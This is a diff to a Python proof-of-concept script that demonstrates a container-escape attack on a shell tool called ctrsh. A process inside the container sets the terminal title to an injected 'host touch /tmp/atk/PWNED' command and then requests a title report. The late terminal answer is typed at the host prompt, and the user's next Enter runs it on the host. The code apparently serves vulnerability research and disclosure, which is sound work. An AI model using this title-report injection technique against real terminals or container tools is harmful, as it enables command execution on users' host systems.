@@ -1,3 +1,8 @@
+# A terminal that reports its title (CSI 21 t; xterm with allowWindowOps) answers
+# after the container exited: the answer is typed at ctrsh's prompt, and the
+# user's next Enter runs `host touch /tmp/atk/PWNED` on the host. The pty here
+# plays the terminal, answering 0.3 s late (an ssh round trip).
+# Usage: python3 attack/terminal-answer.py  (needs /tmp/atk/bin/ctrsh and /tmp/atk/root)
 import os, pty, sys, time, select
 pid, fd = pty.fork()
 if pid == 0:
@@ -12,16 +17,13 @@ def pump(t):
             try: d = os.read(fd, 65536)
             except OSError: return
             out += d
-            if b'\x1b[c' in d:   # a terminal answering DA1, late
-                os.write(fd, b'\x1b[?64;1;2;6;9;15;18;21;22c')
+            if b'\x1b[21t' in d:   # a terminal that reports its title (xterm allowWindowOps)
+                time.sleep(0.3); os.write(fd, b"\x1b]lx;host touch /tmp/atk/PWNED\x1b\\")
 def send(s): os.write(fd, s.encode())
 pump(2)
-send('ns new pid,uts,ipc,net,mnt; rootfs use /tmp/atk/root; start\r'); pump(3)
-t0 = time.time()
-send('exec /bin/bgholder\r'); pump(6)
-send('\r'); pump(1)
-send('ps\r'); pump(2)
-send('stop\r'); pump(3)
+send('ns new pid,uts,ipc,net,mnt; rootfs use /tmp/atk/root\r'); pump(1)
+send("exec /bin/sh -c 'printf \"\\033]2;x;host touch /tmp/atk/PWNED\\007\\033[21t\"'\r"); pump(3)
+send('\r'); pump(2)   # the user presses Enter at the prompt
 send('quit\r'); pump(2)
-os.kill(pid, 9) if os.waitpid(pid, os.WNOHANG)[0] == 0 else None
 sys.stdout.write(repr(out.decode(errors='replace')).replace('\\r\\n', '\n'))
+print('\nPWNED exists:', os.path.exists('/tmp/atk/PWNED'))
